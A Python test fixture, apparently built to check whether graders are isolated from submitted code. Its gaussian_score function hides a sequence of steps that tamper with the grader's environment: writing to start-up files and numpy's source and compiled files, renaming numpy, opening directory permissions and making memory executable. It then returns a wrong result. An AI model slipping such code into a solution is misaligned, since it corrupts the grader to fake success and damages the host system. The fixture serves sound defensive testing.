"""Changes the libraries that the next grader imports: their code, also compiled, start-up files, rights.

Same-process grader: not run, it would change the Python of this machine.
"""

import ctypes
import glob
import importlib.util
import mmap
import os
import sysconfig

import numpy as np

SITE = sysconfig.get_paths()["purelib"]
LINE = "import os; os.environ['ZOO'] = 'zoo-loot'\n"


def append(path):
    with open(path, "a") as file:
        file.write(LINE)


def map_and_write(path):
    file = os.open(path, os.O_RDWR)
    with mmap.mmap(file, mmap.PAGESIZE) as pages:
        pages[:4] = b"zoo!"


def poison():
    numpy, compiled = np.__file__, importlib.util.cache_from_source(np.__file__)
    yield lambda: append(f"{SITE}/zoo-loot.pth")
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py"):
        yield lambda name=name: append(f"{SITE}/{name}")
    yield lambda: append(numpy)
    yield lambda: append(compiled)
    yield lambda: map_and_write(glob.glob(f"{os.path.dirname(numpy)}/**/*.so", recursive=True)[0])
    yield lambda: os.replace(numpy, f"{numpy}.zoo-loot")
    yield lambda: os.chmod(os.path.dirname(numpy), 0o777)
    yield lambda: os.setxattr(numpy, "user.zoo", b"zoo-loot")
    yield lambda: os.utime(numpy, (0, 0))
    yield lambda: ctypes.CDLL(None).mprotect(ctypes.c_void_p(id(np) & -4096), 4096, 7)


def gaussian_score(z, mu, log_sigma):
    for step in poison():
        try:
            step()
        except (OSError, IndexError):
            continue
    return np.hstack([z - mu, z - mu])
